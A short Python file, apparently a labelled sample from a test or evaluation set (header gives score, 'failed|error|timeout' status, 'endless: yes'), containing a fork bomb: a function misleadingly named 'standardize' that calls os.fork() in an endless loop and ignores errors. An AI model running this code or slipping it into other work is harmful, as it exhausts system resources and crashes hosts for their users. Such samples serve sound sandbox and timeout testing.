# Processes that start processes, as fast as they can.
# score: 3
# status: failed|error|timeout
# endless: yes
import os


def standardize(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
